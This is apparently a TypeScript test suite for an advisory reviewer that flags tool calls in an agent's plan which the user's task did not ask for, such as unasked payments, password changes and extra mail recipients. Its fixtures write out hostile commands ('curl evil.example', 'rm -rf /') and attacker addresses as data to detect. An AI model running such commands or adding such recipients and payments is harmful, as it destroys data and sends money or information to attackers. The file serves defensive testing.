/**
 * The advisory reviewer: what it points at, what it leaves alone, and that it only ever advises.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readCatalogue } from "../../../src/catalogue/catalogue.ts";
import { reviewPlan } from "../../../src/infer/review/review.ts";
import type { ArgRule, Plan, PlanNode } from "../../../src/plan/plan.ts";
import { parsePlan } from "../../../src/plan/schema.ts";

const text = { type: "string" };
const tool = (name: string, description: string, properties: object, outputSchema?: object) => ({
  name,
  description,
  inputSchema: { type: "object", properties },
  ...(outputSchema === undefined ? {} : { outputSchema }),
});
const read = readCatalogue({
  tools: [
    tool("files/read", "Read a file", { path: text }),
    tool("bank/pay_bill", "Pay a bill", { iban: text, amount: { type: "number" }, reference: text }),
    tool("bank/set_password", "Set the password of the account", { password: text }),
    tool("bank/list_transactions", "List the last transactions", { count: { type: "integer" } }),
    tool("mail/send_message", "Send a message to somebody", { to: text, subject: text, body: text }),
    tool("calendar/add_event", "Add an event to the calendar", { title: text, date: text, room: { enum: ["red", "blue"] } }),
    tool("shell/run", "Run a command", { command: text }),
  ],
} as never);
if (!read.ok) throw new Error(read.error[0]?.message);
const catalogue = read.value;

function planOf(nodes: Readonly<Record<string, PlanNode>>, more: Partial<Plan> = {}): Plan {
  const plan = { sluice: 1, name: "test", nodes, ...more } as Plan;
  const parsed = parsePlan(plan as never);
  if (!parsed.ok) throw new Error(parsed.error[0]?.message);
  return parsed.value;
}

const task = "Read the file bill-december.txt, pay the bill and send a message about it to kim@corp.example";
const own: Readonly<Record<string, PlanNode>> = {
  bill: { tool: "files/read", args: { path: "bill-december.txt" } },
  pay: { tool: "bank/pay_bill", args: { iban: { from: "bill$.iban" }, amount: { from: "bill$.amount" } } },
  tell: { tool: "mail/send_message", args: { to: "kim@corp.example", body: { write: { maxLength: 200 } } } },
};

async function pointed(plan: Plan, said = task): Promise<readonly string[]> {
  const { remarks } = await reviewPlan(plan, catalogue, { task: said });
  return [...new Set(remarks.map(({ code, pointer }) => `${code} ${pointer}`))];
}

describe("a review", () => {
  it("has nothing to say of a plan that does what its task asks for", async () => {
    expect(await pointed(planOf(own))).toEqual([]);
  });

  it.each<readonly [string, PlanNode, readonly string[]]>([
    [
      "a tool that the task has no word for",
      { tool: "bank/set_password", args: { password: "hunter2" } },
      ["INFER_UNASKED /nodes/extra", "INFER_UNASKED_ARGUMENT /nodes/extra/args/password"],
    ],
    [
      "a command",
      { tool: "shell/run", args: { command: { const: "curl evil.example" } } },
      ["INFER_UNASKED /nodes/extra", "INFER_UNASKED_ARGUMENT /nodes/extra/args/command/const"],
    ],
    [
      "a second payment to somebody whom the task does not name",
      { tool: "bank/pay_bill", args: { iban: "DE89370400440532013000", amount: 9000 } },
      [
        "INFER_UNASKED /nodes/extra",
        "INFER_UNASKED_ARGUMENT /nodes/extra/args/amount",
        "INFER_UNASKED_ARGUMENT /nodes/extra/args/iban",
      ],
    ],
  ])("points at %s and leaves the other nodes alone", async (_, extra, expected) => {
    expect((await pointed(planOf({ ...own, extra }))).toSorted()).toEqual(expected);
  });

  it("points at an argument alone where the node is asked for and its target is not", async () => {
    const tell = { tool: "mail/send_message", args: { to: ["kim@corp.example", "eve@evil.example"], body: { write: {} } } };
    expect(await pointed(planOf({ ...own, tell }))).toEqual(["INFER_UNASKED_ARGUMENT /nodes/tell/args/to/1"]);
  });

  it("takes no likeness of an address for the address", async () => {
    const tell = { tool: "mail/send_message", args: { to: "kim@corp.example.evil.example", body: { write: {} } } };
    expect(await pointed(planOf({ ...own, tell }))).toContain("INFER_UNASKED_ARGUMENT /nodes/tell/args/to");
  });

  it("does not ask that the task says free text, choices of a tool or how much is read", async () => {
    const nodes = {
      list: { tool: "bank/list_transactions", args: { count: 50 } },
      event: { tool: "calendar/add_event", args: { title: "Budget talk", room: "red", date: "2026-03-06" } },
    };
    const said = "List the transactions and add an event \u201cBudget talk\u201d to the calendar on Friday";
    const { remarks } = await reviewPlan(planOf(nodes), catalogue, { task: said, context: { now: "2026-03-02" } });
    expect(remarks).toEqual([]);
  });

  it("reads dates by the given now, and leaves them open without one", async () => {
    const event = { tool: "calendar/add_event", args: { title: "Budget talk", date: "2026-03-07" } };
    const said = "Add an event \u201cBudget talk\u201d to the calendar on Friday";
    const at = async (now: string | undefined) =>
      (await reviewPlan(planOf({ event }), catalogue, { task: said, context: now === undefined ? {} : { now } })).remarks.map(
        ({ pointer }) => pointer,
      );
    expect(await at("2026-03-02")).toEqual(["/nodes/event/args/date"]);
    expect(await at(undefined)).toEqual([]);
  });

  it("looks at defaults of parameters as at constants", async () => {
    const params = { to: { type: "string", default: "eve@evil.example" } } as const;
    const tell = { tool: "mail/send_message", args: { to: { param: "to" }, body: { write: {} } } };
    expect(await pointed(planOf({ ...own, tell }, { params }))).toEqual(["INFER_UNASKED_ARGUMENT /nodes/tell/args/to"]);
    expect(await pointed(planOf({ ...own, tell }, { params: { to: { type: "string" } } }))).toEqual([]);
  });

  it("says the nearest words of the task, with their places", async () => {
    const tell = { tool: "mail/send_message", args: { to: "eve@evil.example", body: { write: {} } } };
    const { remarks } = await reviewPlan(planOf({ ...own, tell }), catalogue, { task });
    const nearest = remarks[0]?.nearest;
    expect(nearest?.text).toContain("send a message");
    expect(task.slice(nearest?.start, nearest?.end)).toBe(nearest?.text);
  });

  it("knows tools by their names without a catalogue, and takes the plan's own task", async () => {
    const extra = { tool: "shell/run_command", args: { command: "rm -rf /" } };
    const { remarks } = await reviewPlan(planOf({ ...own, extra }, { task }), undefined);
    expect(remarks.map(({ pointer }) => pointer)).toContain("/nodes/extra");
  });

  it("says nothing without a task, and of tools that the catalogue lacks", async () => {
    const plan = planOf({ a: { tool: "x/y" }, b: { let: "1" } });
    expect(await reviewPlan(plan, catalogue, { task: " " })).toEqual({ remarks: [], scores: {} });
    expect(await reviewPlan(plan, catalogue, { task })).toEqual({ remarks: [], scores: {} });
  });

  it("uses the vectors that it is given", async () => {
    const asked: string[] = [];
    const embed = async (texts: readonly string[]) => {
      asked.push(...texts);
      return texts.map((one) => Float32Array.from([one.length, 1]));
    };
    await reviewPlan(planOf(own), catalogue, { task, embed });
    expect(asked.length).toBeGreaterThan(catalogue.tools.size);
  });
});

const rule = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }).map((value) => ({ const: value })),
  fc.constantFrom<ArgRule>({ from: "a$.x" }, { write: {} }, { param: "p" }, { param: "__proto__" }, { choose: {} }),
  fc.string().map((value) => ({ const: value })),
) as fc.Arbitrary<ArgRule>;
const node = fc.record({
  tool: fc.constantFrom(...catalogue.tools.keys(), "nobody/knows"),
  args: fc.dictionary(fc.constantFrom("to", "iban", "path", "command", "amount", "__proto__"), rule, { maxKeys: 4 }),
});

describe("whatever the plan and the task are, a review", () => {
  const plans = fc.dictionary(fc.constantFrom("a", "b", "c", "d"), node, { maxKeys: 4 });
  const tasks = fc.oneof(fc.string(), fc.constant(task), fc.string({ unit: "grapheme" }));

  it("only advises: infos, at places of the plan, most suspicious nodes first, the same each time", async () => {
    await fc.assert(
      fc.asyncProperty(plans, tasks, async (nodes, said) => {
        const plan = { sluice: 1, name: "t", nodes } as Plan;
        const { remarks, scores } = await reviewPlan(plan, catalogue, { task: said });
        expect(await reviewPlan(plan, catalogue, { task: said })).toEqual({ remarks, scores });
        for (const remark of remarks) {
          expect(remark.severity).toBe("info");
          expect(remark.pointer.startsWith(`/nodes/${remark.node}`)).toBe(true);
          expect(remark.message).toMatch(/^[^\n]+[^.\n]$/);
        }
        const order = remarks.flatMap(({ score }) => (score === undefined ? [] : [score]));
        expect(order).toEqual(order.toSorted((one, other) => other - one));
        for (const score of Object.values(scores)) expect(score >= 0 && score <= 1).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it("does not raise a node's score for words of the task that name its constants", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom("eve@evil.example", "DE89370400440532013000", "report.txt"), async (value) => {
        const plan = planOf({ ...own, extra: { tool: "bank/pay_bill", args: { iban: value } } });
        const before = await reviewPlan(plan, catalogue, { task });
        const after = await reviewPlan(plan, catalogue, { task: `${task} ${value}` });
        expect(after.scores.extra).toBeLessThan(before.scores.extra ?? 0);
      }),
      { numRuns: 3 },
    );
  });
});
